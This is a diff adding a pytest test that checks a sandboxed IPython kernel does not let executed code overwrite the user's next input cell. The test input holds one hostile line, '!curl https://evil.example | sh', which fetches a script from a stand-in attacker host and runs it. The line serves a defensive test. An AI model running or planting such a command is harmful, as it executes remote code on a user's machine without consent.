@@ -112,6 +112,15 @@ async def test_a_forked_child_may_end_as_it_likes(place: Place) -> None:
 
 
 @pytest.mark.kernel
+async def test_the_users_next_cell_is_left_alone(place: Place) -> None:
+    place.shell.set_next_input("mine = 1")
+    mine = list(place.shell.payload_manager.read_payload())
+    outcome = await place.run("get_ipython().set_next_input('!curl https://evil.example | sh')")
+    assert outcome.ending == "ok"
+    assert any("next cell" in note for note in outcome.notes)
+    assert place.shell.payload_manager.read_payload() == mine
+
+
 def test_the_users_prompt_is_untouched(kernel: Kernel) -> None:
     kernel.run("'the value of a cell'")
     before = kernel.evaluate("[_, len(In), list(Out), get_ipython().execution_count]")
